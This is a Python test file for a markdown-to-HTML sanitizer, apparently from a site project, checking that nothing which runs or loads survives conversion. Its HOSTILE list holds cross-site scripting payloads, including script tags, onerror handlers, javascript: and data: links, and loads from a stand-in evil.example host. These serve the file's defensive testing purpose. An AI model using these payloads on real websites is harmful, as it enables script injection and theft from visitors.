"""
`to_html`: whatever an article carries, nothing that runs or loads comes out.
"""

from __future__ import annotations

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exchange_timeline.site.markup import ATTRIBUTES, TAGS, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![alt](https://evil.example/pixel.gif)",
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example/x)",
    "[click](../another-page.html)",
    '<p onclick="alert(1)">text</p>',
    '<p style="background:url(https://evil.example)">text</p>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<object data=x></object><embed src=x><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=\"https://a.example\" target=_blank ping='https://evil.example'>a</a>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "<https://a.example/><javascript:alert(1)>",
    "<video src=x autoplay></video><audio src=x></audio><link rel=preload href=x>",
]
PIECES = st.sampled_from([*HOSTILE, "<", ">", '"', "'", "&", "\n\n", "text", "*a*", "[a](b)", "`"])


def elements(html: str):
    """Every element of a piece of HTML, as a browser would build it."""
    document = html5lib.parse(html, namespaceHTMLElements=False)
    body = document.find("body")
    assert list(document.find("head")) == [], "nothing moved into the head"
    return list(body.iter())[1:]


def assert_harmless(html: str) -> None:
    """Nothing but the few elements of text, and links that lead to the web."""
    for element in elements(html):
        assert element.tag in TAGS, html
        allowed = ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        assert set(element.attrib) <= allowed, html
        assert element.attrib.get("href", "https://").lower().startswith(("http://", "https://")), (
            html
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_or_loads_survives(text):
    assert_harmless(to_html(text))


@given(st.lists(PIECES, max_size=6).map("".join))
def test_nothing_survives_in_any_mixture(text):
    assert_harmless(to_html(text))


@given(st.text(max_size=60))
def test_no_text_makes_it_crash_or_come_out_dangerous(text):
    assert_harmless(to_html(text))


def test_the_words_survive():
    """Cleaning takes the markup, not the text: `fish & chips < 3` stays readable."""
    html = to_html(
        "Home *at last*, **all** of them: fish & chips < 3.\n\n- one\n- two\n\n> “Soon.”"
    )

    assert html == (
        "<p>Home <em>at last</em>, <strong>all</strong> of them: fish &amp; chips &lt; 3.</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<blockquote>\n<p>“Soon.”</p>\n</blockquote>"
    )


def test_a_link_to_the_web_tells_nobody_where_it_came_from():
    assert to_html("[A paper](https://a.example/x?y=1&z=2)") == (
        '<p><a href="https://a.example/x?y=1&amp;z=2" rel="noopener">A paper</a></p>'
    )


def test_no_text_is_no_html():
    assert to_html("") == ""
